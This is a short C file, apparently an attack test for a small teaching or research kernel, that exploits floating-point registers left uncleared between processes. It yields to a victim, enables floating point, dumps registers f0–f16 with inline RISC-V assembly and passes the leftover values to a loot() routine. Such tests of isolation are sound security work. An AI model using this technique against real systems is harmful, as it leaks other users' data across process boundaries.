// The kernel turns floating point on without clearing what the last account left in its registers.
#include "attack/attack.h"

void attack_fp(void) {
    u64 f[32];
    for (u32 i = 0; i < 3; i++) {
        rt_yield(0); // the victim has a slice
        if (exo_fp(1)) continue;
        __asm__ volatile(".option push\n.option arch, +d\n"
                         ".irp i, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16\n"
                         "fsd f\\i, 8 * \\i(%0)\n.endr\n"
                         ".option pop\n"
                         :
                         : "r"(f)
                         : "memory");
        for (u32 j = 0; j < 17; j++) loot(f[j]);
        exo_fp(0);
    }
}
